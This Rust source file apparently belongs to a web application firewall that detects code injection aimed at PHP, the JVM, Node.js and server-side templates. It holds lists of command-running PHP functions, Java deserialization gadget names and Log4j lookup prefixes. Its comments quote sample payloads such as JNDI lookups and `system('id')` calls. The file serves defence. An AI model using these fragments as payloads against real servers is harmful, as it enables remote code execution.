//! Code injection: what an application's own runtime would run, load or instantiate when a
//! value reaches it: PHP (its tags, functions called by name or through a variable, superglobals,
//! serialized objects, `php.ini` directives, uploaded scripts), the JVM (classes that run
//! commands or load code, Log4j and Commons Text lookups, OGNL and Spring class-loader
//! parameters, serialized objects), Node.js (`node-serialize` functions, `child_process`,
//! prototype pollution, loops that never end) and Ruby, and server-side templates (Jinja2,
//! Twig, ERB, EL expressions). The OWASP Core Rule Set's rules 933, 944 and 934 read the same
//! things; what ordinary text holds (an exception's class name and a stack frame, `while (it)
//! lasts`, `Dear $name (customer 12)`, a Markdown link, a manual page's `system(3)`) is read as
//! text. Code of these languages pasted as text (a snippet, a tutorial) is not: an exclusion
//! serves the fields that carry it.

use super::decode::{
    byte_set, ends_with_ci, find_bytes, find_ci, find_either, find_in, is_word, starts_with_ci, Hit, Shape, WordTable,
};

/// `full`: every check (arguments, the path, `User-Agent`, `Referer`); otherwise (other
/// headers at paranoia 1) only the JVM's: Log4Shell and its kind arrived in any header.
pub(crate) fn check(v: &[u8], shape: Shape, full: bool, level: u8) -> Option<Hit> {
    if shape.has(const { Shape::mask(b".") }) {
        if let Some(hit) = dotted_names(v, full, level) {
            return Some(hit);
        }
    }
    if shape.has(const { Shape::mask(b"_") }) {
        if let Some(hit) = underscore_words(v, full, level) {
            return Some(hit);
        }
    }
    let comments = Comments::of(v);
    if shape.has(const { Shape::mask(b"$") }) {
        if let Some(hit) = dollar_signs(v, &comments, full) {
            return Some(hit);
        }
    }
    if let Some(hit) = java_markers(v, shape, level) {
        return Some(hit);
    }
    if !full {
        return None;
    }
    if shape.has(const { Shape::mask(b"<[{") }) {
        if let Some(hit) = php_tag(v) {
            return Some(hit);
        }
    }
    if shape.has(const { Shape::mask(b";?") }) {
        if let Some(hit) = php_include(v, &comments, level) {
            return Some(hit);
        }
    }
    if shape.has(const { Shape::mask(b"(") }) {
        if let Some(hit) = calls(v, &comments, level) {
            return Some(hit);
        }
    }
    if shape.has(const { Shape::mask(b".") }) && shape.has(const { Shape::mask(b"'\"") }) {
        if let Some(hit) = concatenated_function(v, &comments, level) {
            return Some(hit);
        }
    }
    if shape.has(const { Shape::mask(b":") }) && shape.digit() {
        if let Some(hit) = php_object(v) {
            return Some(hit);
        }
    }
    if shape.has(const { Shape::mask(b"=") }) {
        if let Some(hit) = php_directive(v, shape, level) {
            return Some(hit);
        }
    }
    if let Some(hit) = javascript(v, shape) {
        return Some(hit);
    }
    if shape.has(const { Shape::mask(b"{%") }) {
        if let Some(hit) = template(v, level) {
            return Some(hit);
        }
    }
    // FreeMarker builds any class it is named with `?new()` (`"freemarker.template.utility.Execute"?new()`,
    // its name split to pass a filter; tester s1).
    if shape.has(const { Shape::mask(b"?") }) {
        if let Some(at) = find_ci(v, b"?new(", 0) {
            return hit(1, at, at + 5, level);
        }
    }
    None
}

fn hit(level: u8, start: usize, end: usize, max: u8) -> Option<Hit> {
    (level <= max).then(|| Hit::new(level, start, end))
}

/// The name of an uploaded file that a PHP or Java server would run (`shell.php`, `a.jspx..`:
/// trailing dots and blanks are dropped by Windows and by some servers), or a PHP session
/// file (`sess_<id>`: uploaded into the session directory it becomes someone's session).
pub(crate) fn upload_name(v: &[u8], level: u8) -> Option<Hit> {
    let base = super::decode::upload_base_name(v);
    let found = match base.iter().rposition(|&b| b == b'.') {
        Some(dot) => {
            let ext = &base[dot + 1..];
            SCRIPT_EXTENSIONS.contains(ext) || (ext.starts_with(b"php") && ext[3..].iter().all(u8::is_ascii_digit))
        }
        None => false,
    };
    let session = base.starts_with(b"sess_")
        && base.len() >= 5 + 20
        && base[5..].iter().all(|&b| b.is_ascii_alphanumeric() || b == b',' || b == b'-');
    (found || session).then(|| Hit::new(1, 0, v.len().min(64))).filter(|h| h.level <= level)
}

/// Extensions a PHP or Java application server runs as code.
static SCRIPT_EXTENSIONS: WordTable<11> =
    WordTable::new(&[b"phtml", b"pht", b"phpt", b"phar", b"phps", b"pgif", b"jsp", b"jspx", b"jspf", b"jsw", b"jsv"]);

// ---------------------------------------------------------------------------------------------
// The JVM

/// Packages whose classes run commands, open files or sockets, load classes or evaluate code:
/// what deserialization gadgets, OGNL, SpEL and EL payloads name. Each entry is the dotted
/// prefix, lower-case; a name matches when it starts with one, at a word boundary.
const JAVA_PACKAGES: &[&[u8]] = &[
    b"java.io.",
    b"java.nio.file.",
    b"java.nio.channels.",
    b"java.net.",
    b"java.rmi.",
    b"java.beans.",
    b"java.lang.reflect",
    b"java.lang.invoke",
    b"javax.script",
    b"javax.naming",
    b"javax.management",
    b"javax.el.",
    b"jdk.jshell",
    b"jdk.nashorn",
    b"jdk.internal",
    b"sun.misc.",
    b"sun.reflect",
    b"sun.rmi.",
    b"com.sun.org.apache",
    b"com.sun.rowset",
    b"com.sun.jndi",
    b"com.opensymphony.xwork2",
    b"org.omg.corba",
    b"org.apache.commons.collections",
    b"org.apache.commons.beanutils",
    b"org.apache.commons.configuration",
    b"org.apache.commons.text.stringsubstitutor",
    b"org.codehaus.groovy.runtime",
    b"org.springframework.expression",
    b"org.springframework.context.support",
    b"org.mozilla.javascript",
    b"org.python.util",
    b"ognl.ognl",
    b"bsh.interpreter",
    b"groovy.lang.",
    b"freemarker.template.utility",
    b"clojure.core",
];

/// Classes of `java.lang` that run commands or load code.
static JAVA_LANG_CLASSES: WordTable<10> = WordTable::new(&[
    b"runtime",
    b"processbuilder",
    b"process",
    b"processimpl",
    b"system",
    b"class",
    b"classloader",
    b"compiler",
    b"shutdown",
    b"module",
]);

/// Dotted names, each read once from the dots in the value (most values have none, and the
/// rest few): the JVM's classes in packages that run commands, open files or sockets, load
/// classes or evaluate code (`java.lang.Runtime`, `javax.script.ScriptEngineManager`,
/// `com.opensymphony.xwork2`), Spring4Shell's `class.module.classLoader`, `Runtime` or
/// `ProcessBuilder` beside a Commons Collections gadget; with `full`, Node.js's
/// `process.mainModule`, `require.main`, `module.exports=` and `constructor.prototype`.
/// Exceptions and errors (`java.io.IOException` in a pasted stack trace), stack frames and
/// system properties (`java.io.tmpdir`) are text.
fn dotted_names(v: &[u8], full: bool, level: u8) -> Option<Hit> {
    fn name_byte(b: u8) -> bool {
        is_word(b) || b == b'.' || b == b'$'
    }
    // Where a gadget is named in the value: looked for once, when a name first needs it (each
    // `runtime.` had searched the whole value: `x.runtime ` repeated, 3.4 s; the review).
    let mut gadget: Option<Option<(usize, usize)>> = None;
    let mut i = 0;
    while let Some(dot) = find_either(v, i, b'.', b'.') {
        let floor = i.max(dot.saturating_sub(256));
        let at = v[floor..dot].iter().rposition(|&b| !name_byte(b)).map_or(floor, |p| floor + p + 1);
        let end = dot + v[dot..].iter().take(256).position(|&b| !name_byte(b)).unwrap_or(v.len().min(dot + 256) - dot);
        i = end.max(dot + 1);
        let name = &v[at..end];
        if !name.first().is_some_and(u8::is_ascii_alphabetic) || !name[1..].iter().any(u8::is_ascii_alphabetic) {
            continue;
        }
        if let Some(h) = java_name(v, at, end, level, &mut gadget) {
            return Some(h);
        }
        if full {
            if let Some(h) = javascript_name(v, at, end) {
                return Some(h);
            }
        }
    }
    None
}

/// One dotted name, `v[at..end]`, read as the JVM's.
fn java_name(v: &[u8], at: usize, end: usize, level: u8, gadget: &mut Option<Option<(usize, usize)>>) -> Option<Hit> {
    // A JVM type descriptor (`Lcom.sun.rowset.JdbcRowSetImpl;`, fastjson's way to name a class).
    let at = match v.get(at..at + 2) {
        Some([b'L', b'a'..=b'z']) if v.get(end) == Some(&b';') => at + 1,
        _ => at,
    };
    let name = &v[at..end];
    let mut segments = name.split(|&b| b == b'.');
    let first = segments.next().unwrap_or(b"");
    // Spring4Shell: `class.module.classLoader...`, `class.classLoader...`.
    let mut previous = first;
    for s in name.split(|&b| b == b'.').skip(1) {
        if s.eq_ignore_ascii_case(b"classloader")
            && (previous.eq_ignore_ascii_case(b"class") || previous.eq_ignore_ascii_case(b"module"))
        {
            return hit(1, at, end, level);
        }
        previous = s;
    }
    // `Runtime` or `ProcessBuilder` named beside a gadget anywhere in the value.
    if name.split(|&b| b == b'.').any(|s| starts_with_ci(s, b"runtime") || starts_with_ci(s, b"processbuilder")) {
        let found = *gadget.get_or_insert_with(|| GADGETS.iter().find_map(|g| find_ci(v, g, 0).map(|p| (p, g.len()))));
        if let Some(g) = found {
            return hit(1, at.min(g.0), end.max(g.0 + g.1), level);
        }
    }
    // The packages' first names: an address or a host (`conan.obrien`, `shop.example`) is none.
    const ROOTS: [&[u8]; 11] =
        [b"java", b"javax", b"jdk", b"sun", b"com", b"org", b"ognl", b"bsh", b"groovy", b"freemarker", b"clojure"];
    if !ROOTS.iter().any(|r| first.eq_ignore_ascii_case(r)) {
        return None;
    }
    let last = name.rsplit(|&b| b == b'.').find(|p| !p.is_empty()).unwrap_or(b"");
    if (last.len() > 5 && (ends_with_ci(last, b"exception") || ends_with_ci(last, b"error"))) || stack_frame(&v[end..])
    {
        return None;
    }
    // A package written with its dot goes on to a class (upper case): `java.io.tmpdir` and
    // `java.net.preferIPv4Stack` are system properties a JVM's command line sets.
    let names_class = |p: &[u8]| {
        !p.ends_with(b".")
            || name[p.len()..].split(|&b| b == b'.').any(|s| s.first().is_some_and(u8::is_ascii_uppercase))
    };
    if JAVA_PACKAGES.iter().any(|p| starts_with_ci(name, p) && names_class(p)) {
        return hit(1, at, end, level);
    }
    if starts_with_ci(name, b"java.lang.") {
        let class = name[10..].split(|&b| b == b'.' || b == b'$').next().unwrap_or(b"");
        if JAVA_LANG_CLASSES.contains(class) {
            return hit(1, at, end, level);
        }
    }
    // `java.Runtime`: a class written without its package, as CRS 944110 reads it.
    if starts_with_ci(name, b"java.") {
        let class = name[5..].split(|&b| b == b'.').next().unwrap_or(b"");
        if class.eq_ignore_ascii_case(b"runtime") || class.eq_ignore_ascii_case(b"processbuilder") {
            return hit(1, at, end, level);
        }
    }
    None
}

/// One dotted name, `v[at..end]`, read as Node.js's.
fn javascript_name(v: &[u8], at: usize, end: usize) -> Option<Hit> {
    let name = &v[at..end];
    let mut previous: &[u8] = b"";
    for s in name.split(|&b| b == b'.') {
        let pair = |a: &[u8], b: &[u8]| previous.eq_ignore_ascii_case(a) && s.eq_ignore_ascii_case(b);
        let exports = pair(b"module", b"exports") && v[end..].trim_ascii_start().first() == Some(&b'=');
        if pair(b"process", b"mainmodule")
            || pair(b"process", b"binding")
            || pair(b"require", b"main")
            || pair(b"constructor", b"prototype")
            || pair(b"constructor", b"constructor")
            || exports
        {
            return Some(Hit::new(1, at, end));
        }
        previous = s;
    }
    None
}

/// What follows a method's name in a stack trace: `(Method.java:498)`, `(Native Method)`,
/// `(Unknown Source)`.
fn stack_frame(after: &[u8]) -> bool {
    // A constructor's frame: `java.io.FileInputStream.<init>(FileInputStream.java:138)`.
    let after = after.strip_prefix(b".").unwrap_or(after);
    let after = after.strip_prefix(b"<init>").or_else(|| after.strip_prefix(b"<clinit>")).unwrap_or(after);
    let Some(inner) = after.strip_prefix(b"(") else { return false };
    let inner = &inner[..inner.iter().take(80).position(|&b| b == b')').unwrap_or(0)];
    inner == b"Native Method"
        || inner == b"Unknown Source"
        || inner.windows(6).position(|w| w == b".java:").is_some_and(|p| inner[p + 6..].iter().all(u8::is_ascii_digit))
}

/// Apache Commons Collections and Beanutils gadget names a serialized payload or an OGNL
/// expression carries beside `Runtime` or `ProcessBuilder`.
const GADGETS: &[&[u8]] = &[
    b"clonetransformer",
    b"forclosure",
    b"instantiatefactory",
    b"instantiatetransformer",
    b"invokertransformer",
    b"prototypeclonefactory",
    b"prototypeserializationfactory",
    b"whileclosure",
    b"chainedtransformer",
    b"constanttransformer",
    b"lazymap",
    b"transformedmap",
    b"beancomparator",
    b"templatesimpl",
    b"xmldecoder",
    b"getruntime",
    b"unmarshaller",
    b"base64data",
];

/// The JVM's markers without a dotted name: Spring4Shell's class loader reached by brackets
/// (`class['classLoader']`), OGNL's member access (`#_memberAccess`, `DEFAULT_MEMBER_ACCESS`),
/// and from paranoia 2, as random base64 can hold them, serialized Java objects.
fn java_markers(v: &[u8], shape: Shape, level: u8) -> Option<Hit> {
    if shape.has(const { Shape::mask(b"[") }) && shape.has(const { Shape::mask(b"'\"") }) {
        if let Some(at) = find_ci(v, b"classloader", 0) {
            let before = v[..at].trim_ascii_end();
            let before = before.strip_suffix(b"['").or_else(|| before.strip_suffix(b"[\"")).unwrap_or(before);
            if ends_with_ci(before, b"class") || ends_with_ci(before, b"module") {
                return hit(1, at.saturating_sub(13), at + 11, level);
            }
        }
    }
    if level >= 2 {
        if let Some(at) = find_bytes(v, b"rO0AB", 0) {
            return hit(2, at, at + 5, level);
        }
        if let Some(at) = find_ci(v, b"aced0005", 0) {
            return hit(2, at, at + 8, level);
        }
    }
    None
}

/// Words holding `_` that name what runs code: OGNL's `_memberAccess` and
/// `DEFAULT_MEMBER_ACCESS`; with `full`, Node.js's `__proto__`, `child_process` and
/// `__js_function`. Each word is read once, from its underscores.
fn underscore_words(v: &[u8], full: bool, level: u8) -> Option<Hit> {
    let mut i = 0;
    while let Some(u) = find_either(v, i, b'_', b'_') {
        let floor = i.max(u.saturating_sub(64));
        let at = v[floor..u].iter().rposition(|&b| !is_word(b)).map_or(floor, |p| floor + p + 1);
        let end = u + v[u..].iter().take(64).position(|&b| !is_word(b)).unwrap_or(v.len().min(u + 64) - u);
        i = end.max(u + 1);
        let word = &v[at..end];
        if word.len() < 9 {
            continue;
        }
        let has = |m: &[u8]| word.len() >= m.len() && find_ci(word, m, 0).is_some();
        if has(b"_memberaccess") || has(b"default_member_access") {
            return hit(1, at, end, level);
        }
        if full && (has(b"__proto__") || has(b"child_process") || has(b"__js_function")) {
            return hit(1, at, end, level);
        }
    }
    None
}

/// Log4j's and Commons Text's lookups: `${jndi:ldap://...}`, `${${::-j}ndi:...}`, `${env:AWS_SECRET}`,
/// `${script:javascript:...}`. A template's `${name}` is no lookup.
/// Every `$` of a value, read once: a Log4j or Commons Text lookup there (any value); with
/// `full`, a PHP superglobal or a function called through a variable, and Node.js's
/// `_$$ND_FUNC$$_` and React Server Components' `$1:constructor:constructor`.
fn dollar_signs(v: &[u8], c: &Comments, full: bool) -> Option<Hit> {
    let mut i = 0;
    while let Some(at) = find_either(v, i, b'$', b'$') {
        i = at + 1;
        if let Some(hit) = lookup_at(v, at) {
            return Some(hit);
        }
        if !full {
            continue;
        }
        if let Some(hit) = php_variable_at(v, c, at) {
            return Some(hit);
        }
        if starts_with_ci(&v[at..], b"$$nd_func$$") {
            return Some(Hit::new(1, at, at + 11));
        }
        if let Some(end) = server_reference_to_a_prototype(v, at) {
            return Some(Hit::new(1, at, end));
        }
    }
    None
}

/// A React Server Components reference (`$1:user:name`: chunk 1's `user.name`) whose path walks
/// to an object's prototype or constructor: `$1:constructor:constructor` reaches `Function`,
/// `$1:__proto__:then` and `$7:Module:prototype:_compile` reach what React2Shell
/// (CVE-2025-55182) ran code with. No reference to data passes through these names. The end of
/// the match when there is one.
fn server_reference_to_a_prototype(v: &[u8], at: usize) -> Option<usize> {
    let mut i = at + 1 + v[at + 1..].iter().take(16).take_while(|&&b| is_word(b) || b == b'@').count();
    if i == at + 1 {
        return None;
    }
    for _ in 0..8 {
        if v.get(i) != Some(&b':') {
            return None;
        }
        let segment = &v[i + 1..i + 1 + v[i + 1..].iter().take(64).take_while(|&&b| is_word(b)).count()];
        i += 1 + segment.len();
        if segment.is_empty() {
            return None;
        }
        if [&b"constructor"[..], b"__proto__", b"prototype"].iter().any(|w| segment.eq_ignore_ascii_case(w)) {
            return Some(i);
        }
    }
    None
}

fn lookup_at(v: &[u8], at: usize) -> Option<Hit> {
    const LOOKUPS: &[&[u8]] = &[
        b"jndi:",
        b"lower:",
        b"upper:",
        b"env:",
        b"sys:",
        b"java:",
        b"date:",
        b"main:",
        b"ctx:",
        b"base64:",
        b"bundle:",
        b"k8s:",
        b"docker:",
        b"spring:",
        b"log4j:",
        b"web:",
        b"marker:",
        b"map:",
        b"sd:",
        b"event:",
        b"jvmrunargs:",
        b"script:",
        b"dns:",
        b"url:",
        b"file:",
        b"::-",
    ];
    if v.get(at + 1) != Some(&b'{') {
        return None;
    }
    let inner = &v[at + 2..];
    let inner = inner.trim_ascii_start();
    let end = (at + 40).min(v.len());
    // A lookup nested in the name (`${j${::-n}di:`, `${jndi${x:-:}ldap:`; tester s1): no
    // template nests a placeholder inside a placeholder's name.
    let name = &inner[..inner.iter().take(64).position(|&b| b == b'}' || b == b'$').unwrap_or(inner.len().min(64))];
    let nested = inner.get(name.len()..name.len() + 2) == Some(b"${");
    (inner.starts_with(b"${") || nested || LOOKUPS.iter().any(|l| starts_with_ci(inner, l)))
        .then(|| Hit::new(1, at, end))
}

// ---------------------------------------------------------------------------------------------
// PHP

/// `<?php`, `<?=`, `<? ` and the bare `<?` PHP runs with short tags; `[php]` of the CMS filters
/// that run it and Smarty's `{php}`. An XML declaration or processing instruction (`<?xml version`,
/// `<?xml-stylesheet`) is not PHP.
fn php_tag(v: &[u8]) -> Option<Hit> {
    let mut i = 0;
    static OPENS: [bool; 256] = byte_set(b"<[{");
    while let Some(at) = find_in(v, i, &OPENS) {
        i = at + 1;
        if v[at] != b'<' {
            let rest = &v[at + 1..];
            let rest = rest.strip_prefix(b"/").or_else(|| rest.strip_prefix(b"\\")).unwrap_or(rest);
            let close = if v[at] == b'[' { b']' } else { b'}' };
            if starts_with_ci(rest, b"php") && rest.get(3) == Some(&close) {
                return Some(Hit::new(1, at, (at + 6).min(v.len())));
            }
            continue;
        }
        if v.get(at + 1) != Some(&b'?') {
            continue;
        }
        let rest = &v[at + 2..];
        let end = (at + 16).min(v.len());
        if starts_with_ci(rest, b"php") {
            if rest.get(3).is_some_and(|b| b.is_ascii_whitespace()) {
                return Some(Hit::new(1, at, end));
            }
            continue;
        }
        match rest.first() {
            Some(b'=') => return Some(Hit::new(1, at, end)),
            Some(b) if b.is_ascii_whitespace() => return Some(Hit::new(1, at, end)),
            _ => {}
        }
        if starts_with_ci(rest, b"xml") {
            // `<?xml :echo 1;` or `<?xml ;`: no declaration goes on without a name.
            let after = &rest[3..];
            if after.first() == Some(&b':') {
                return Some(Hit::new(1, at, end));
            }
            let trimmed = after.trim_ascii_start();
            if trimmed.len() < after.len() && trimmed.first().is_some_and(|b| !b.is_ascii_alphabetic() && *b != b'?') {
                return Some(Hit::new(1, at, end));
            }
        }
    }
    None
}

/// PHP's superglobals (`$_GET['x']`, `$GLOBALS`), and a function called through a variable:
/// `$a(1)`, `$_GET['f']($_GET['x'])`, `@$__[o](4)`, `${'a'}()`, with blanks and comments
/// before the parenthesis.
fn php_variable_at(v: &[u8], c: &Comments, at: usize) -> Option<Hit> {
    static SUPERGLOBALS: WordTable<12> = WordTable::new(&[
        b"_get",
        b"_post",
        b"_cookie",
        b"_request",
        b"_server",
        b"_files",
        b"_env",
        b"_session",
        b"globals",
        b"http_raw_post_da",
        b"http_response_he",
        b"php_errormsg",
    ]);
    {
        let name_len = v[at + 1..].iter().take_while(|&&b| is_word(b)).count();
        let name = &v[at + 1..at + 1 + name_len];
        if name_len > 0 && SUPERGLOBALS.contains(&name[..name_len.min(16)]) {
            return Some(Hit::new(1, at, at + 1 + name_len));
        }
        let mut j = at + 1 + name_len;
        let bare = name_len > 0;
        if name_len == 0 {
            j = skip_blanks_and_comments(v, c, j);
            // `${'a'}` or `${$x}`: a variable named by an expression.
            if v.get(j) != Some(&b'{') {
                return None;
            }
            j = match closing(v, j) {
                Some(c) => c + 1,
                None => return None,
            };
        } else if name[0].is_ascii_digit() {
            return None;
        }
        // Indexers: `[..]` and `{..}`, then blanks and comments.
        let mut steps = 0;
        loop {
            let k = skip_blanks_and_comments(v, c, j);
            if steps == 8 || !matches!(v.get(k), Some(b'[' | b'{')) {
                break;
            }
            j = match closing(v, k) {
                Some(c) => c + 1,
                None => break,
            };
            steps += 1;
        }
        let k = skip_blanks_and_comments(v, c, j);
        // `Dear $name (customer 1234)`, `$CAD (Canadian dollars)`: a bare name, a blank and an
        // aside is prose; `$OOO0000O0 (16)` and `$a ('id')` are calls.
        let prose = bare && steps == 0 && !called_as_code(&v[j..k.min(v.len())], v.get(k + 1..).unwrap_or(b""));
        if v.get(k) == Some(&b'(') && !prose {
            return Some(Hit::new(1, at, k + 1));
        }
    }
    None
}

/// The bracket that closes the one at `open` (`[`, `{` or `(`), nesting counted, within 128 bytes.
fn closing(v: &[u8], open: usize) -> Option<usize> {
    let (o, c) = match v[open] {
        b'[' => (b'[', b']'),
        b'{' => (b'{', b'}'),
        _ => (b'(', b')'),
    };
    let mut depth = 0;
    for (k, &b) in v.iter().enumerate().skip(open).take(128) {
        if b == o {
            depth += 1;
        } else if b == c {
            depth -= 1;
            if depth == 0 {
                return Some(k);
            }
        }
    }
    None
}

/// A value's comments (`/* */`, and `#` or `//` to the line's end), found once in one pass: a gap
/// between a name and its parenthesis is followed through them whatever their length (a walk
/// bounded to 256 bytes let a 300-byte comment hide `system/*...*/('id')`: tester t1), and no
/// opener reads one again (an unbounded walk from each had read the square of `$/*` repeated:
/// the review). Quotes are not told apart: a `//` in a URL makes the rest of its line a
/// comment here, which only ever joins a name to what follows the line.
/// Found when a gap first meets a byte a comment starts or ends with: most values (a URL, a
/// path) never need them.
pub(crate) struct Comments<'v> {
    v: &'v [u8],
    spans: std::cell::OnceCell<Vec<(usize, usize)>>,
}

impl<'v> Comments<'v> {
    fn of(v: &'v [u8]) -> Comments<'v> {
        Comments { v, spans: std::cell::OnceCell::new() }
    }

    fn spans(&self) -> &[(usize, usize)] {
        self.spans.get_or_init(|| Self::find(self.v))
    }

    fn find(v: &[u8]) -> Vec<(usize, usize)> {
        let mut spans = Vec::new();
        static OPENS: [bool; 256] = byte_set(b"#/");
        let mut i = 0;
        while let Some(at) = find_in(v, i, &OPENS) {
            let end = match (v[at], v.get(at + 1)) {
                (b'/', Some(b'*')) => find_bytes(v, b"*/", at + 2).map_or(v.len(), |e| e + 2),
                (b'#', _) | (b'/', Some(b'/')) => find_either(v, at, b'\n', b'\r').unwrap_or(v.len()),
                _ => {
                    i = at + 1;
                    continue;
                }
            };
            spans.push((at, end));
            i = end.max(at + 1);
        }
        spans
    }

    /// The end of the comment that starts at `j`.
    fn starting_at(&self, j: usize) -> Option<usize> {
        if !matches!(self.v.get(j), Some(b'/' | b'#')) {
            return None;
        }
        let spans = self.spans();
        spans.binary_search_by_key(&j, |s| s.0).ok().map(|k| spans[k].1)
    }

    /// The start of the comment that ends at `j` (exclusive).
    fn ending_at(&self, j: usize) -> Option<usize> {
        let block_end = j > 0 && self.v[j - 1] == b'/';
        if !block_end && !matches!(self.v.get(j), Some(b'\n' | b'\r') | None) {
            return None;
        }
        let spans = self.spans();
        spans.binary_search_by_key(&j, |s| s.1).ok().map(|k| spans[k].0)
    }
}

/// Past blanks and comments from `from`.
fn skip_blanks_and_comments(v: &[u8], c: &Comments, from: usize) -> usize {
    let mut j = from;
    loop {
        while v.get(j).is_some_and(u8::is_ascii_whitespace) {
            j += 1;
        }
        match c.starting_at(j) {
            Some(end) if end > j => j = end,
            _ => return j.min(v.len()),
        }
    }
}

/// Blanks and comments going back from `j` (exclusive): the index just past the last byte
/// before them.
fn skip_blanks_back(v: &[u8], c: &Comments, mut j: usize) -> usize {
    loop {
        while j > 0 && v[j - 1].is_ascii_whitespace() {
            j -= 1;
        }
        match c.ending_at(j) {
            Some(start) if start < j => j = start,
            _ => return j,
        }
    }
}

/// PHP functions that run commands, evaluate or load code, or decode a payload; what PHP web
/// shells and CRS's rules 933150 and 933160 name; no English word among them (those are
/// [`PHP_PLAIN_FUNCTIONS`]). Some are C's and other languages' too (`fopen`, `getenv`, `chmod`):
/// a method call (`os.getenv(`) is no PHP, a function call in a C or Python snippet reads as one.
static PHP_FUNCTIONS: WordTable<74> = WordTable::new(&[
    b"call_user_func_a",
    b"preg_replace_cal",
    b"array_walk_recur",
    b"mb_ereg_replace_",
    b"set_exception_ha",
    b"bzdecompress",
    b"zlib_decode",
    b"curl_init",
    b"strrev",
    b"file_exists",
    b"base64_decode",
    b"call_user_func",
    b"create_function",
    b"file_get_content",
    b"file_put_content",
    b"fsockopen",
    b"pfsockopen",
    b"gzinflate",
    b"gzuncompress",
    b"gzdecode",
    b"str_rot13",
    b"shell_exec",
    b"passthru",
    b"proc_open",
    b"popen",
    b"pcntl_exec",
    b"pcntl_fork",
    b"phpinfo",
    b"posix_getpwuid",
    b"posix_getpwnam",
    b"posix_kill",
    b"posix_setuid",
    b"posix_mkfifo",
    b"posix_getuid",
    b"posix_uname",
    b"preg_replace",
    b"get_defined_func",
    b"get_defined_vars",
    b"php_uname",
    b"move_uploaded_fi",
    b"highlight_file",
    b"show_source",
    b"ini_set",
    b"ini_get_all",
    b"ini_restore",
    b"assert_options",
    b"stream_socket_cl",
    b"putenv",
    b"apache_setenv",
    b"array_map",
    b"array_filter",
    b"array_walk",
    b"usort",
    b"uasort",
    b"uksort",
    b"register_shutdow",
    b"register_tick_fu",
    b"set_error_handle",
    b"ob_start",
    b"unserialize",
    b"var_dump",
    b"var_export",
    b"print_r",
    b"curl_exec",
    b"fopen",
    b"fwrite",
    b"fputs",
    b"readfile",
    b"symlink",
    b"chmod",
    b"escapeshellcmd",
    b"getenv",
    b"parse_str",
    b"mb_ereg_replace",
]);

/// Words that are also everyday English or another language's functions: a call to one counts
/// only written as code (no blank before its parenthesis but a tab, a line break or a comment,
/// and not `system(s)`).
static PHP_PLAIN_FUNCTIONS: WordTable<10> = WordTable::new(&[
    b"eval",
    b"assert",
    b"system",
    b"exec",
    b"include",
    b"require",
    b"include_once",
    b"require_once",
    b"file",
    b"extract",
]);

/// A PHP function (16 bytes of its name at most: the tables hold longer names cut there).
fn php_function(w: &[u8]) -> bool {
    // PHP's `posix_` functions, not C's (`posix_fallocate`, `posix_memalign`, `posix_spawn`).
    const POSIX: [&[u8]; 6] =
        [b"posix_get", b"posix_set", b"posix_kill", b"posix_mkfifo", b"posix_uname", b"posix_times"];
    PHP_FUNCTIONS.contains(&w[..w.len().min(16)]) || POSIX.iter().any(|p| starts_with_ci(w, p))
}

/// Calls, when written as code ([`called_as_code`]): a PHP function by name, with a prefix
/// glued on too (`FOOcall_user_func()`, as CRS reads it: what precedes may be anything a filter
/// does not read as a word), by a quoted or joined name (`"sys"."tem"('id')`), or through a
/// bracketed name or variable (`(system)('id')`, `($y)('id')`, `(['system'])[0]('id')`);
/// Ruby's `Process.spawn(`; a JavaScript loop that never ends (`while(!0)`, `for(;;)`), which
/// blocks Node.js's one thread.
fn calls(v: &[u8], c: &Comments, level: u8) -> Option<Hit> {
    let mut i = 0;
    while let Some(open) = find_either(v, i, b'(', b'(') {
        i = open + 1;
        let before = skip_blanks_back(v, c, open);
        let markdown = open > 0 && v[open - 1] == b']' && link(&v[open + 1..]);
        if before == 0 || stack_frame(&v[open..]) || markdown {
            continue;
        }
        let code = called_as_code(&v[before..open], &v[open + 1..]);
        let last = v[before - 1];
        if is_word(last) {
            let start = v[..before].iter().rposition(|&b| !is_word(b)).map_or(0, |p| p + 1);
            let word = &v[start..before];
            // Ruby: `Process.spawn(`, `Kernel.exec(`, `IO.popen(`, `Open3.capture2(`.
            if start > 0 && v[start - 1] == b'.' {
                if let Some(h) = ruby_call(v, start, before, open) {
                    return hit(1, h.0, h.1, level);
                }
            }
            if word.eq_ignore_ascii_case(b"while") || word.eq_ignore_ascii_case(b"for") {
                if let Some(end) = endless_loop(v, open) {
                    return hit(1, start, end, level);
                }
                continue;
            }
            // A method of another language's object (`subprocess.Popen(`, `os.getenv(`,
            // `/re/.exec(`): PHP calls methods with `->`. A manual page's section (`system(3)`,
            // `chmod(1)`) is a reference in text.
            // A `.` after a quote, a blank or a `$variable` is PHP's concatenation, not a method
            // (tester t1: `x'.system('id').'` ran).
            let method = start > 1
                && v[start - 1] == b'.'
                && (is_word(v[start - 2]) || v[start - 2] == b')')
                && !receiver_is_variable(v, start - 1);
            if plural(v, open) || method || man_section(&v[open + 1..]) {
                continue;
            }
            // An English word as a function: written as code, and not named bare with nothing to
            // run (`exec()` is named in prose too; `FILE\r\n()` is no prose).
            let named_only = before == open && v.get(open + 1) == Some(&b')');
            if PHP_PLAIN_FUNCTIONS.contains(word) && code && !named_only {
                return hit(1, start, open + 1, level);
            }
            // A name with a prefix glued on (`FOOcall_user_func()`): any suffix that is one, but
            // not another identifier ending in one (`add_passthru(`).
            let lower_start = start.max(before.saturating_sub(32));
            let glued = (lower_start..before.saturating_sub(4))
                .any(|s| (s == start || v[s - 1] != b'_') && php_function(&v[s..before]));
            if glued || (before - start >= 5 && php_function(&v[start..before])) {
                return hit(1, start, open + 1, level);
            }
            continue;
        }
        // A chain of brackets before a parenthesis (`[ system ] [ 0 ] ( ls )`) is code however
        // it is spaced.
        if matches!(last, b')' | b']' | b'}') {
            if let Some((s, groups)) = called_group(v, c, before) {
                if code || groups >= 2 {
                    return hit(1, s, open + 1, level);
                }
            }
            continue;
        }
        if !code {
            continue;
        }
        if matches!(last, b'"' | b'\'') {
            if let Some((s, name)) = concatenated_name(v, c, before) {
                let name = name.trim_ascii();
                if php_function(name) || PHP_PLAIN_FUNCTIONS.contains(name) {
                    return hit(1, s, open + 1, level);
                }
            }
            continue;
        }
    }
    None
}

/// PHP's `include` and `require` (and `_once`), which take no parentheses, as a statement: the
/// word, a quoted path or a variable, and `;` (`include 'uploads/x.jpg';`,
/// `require_once $_GET['p'];`); `please include 'urgent' in the subject` is prose.
fn php_include(v: &[u8], c: &Comments, level: u8) -> Option<Hit> {
    for keyword in [&b"include"[..], b"require"] {
        let mut i = 0;
        while let Some(at) = find_ci(v, keyword, i) {
            i = at + 1;
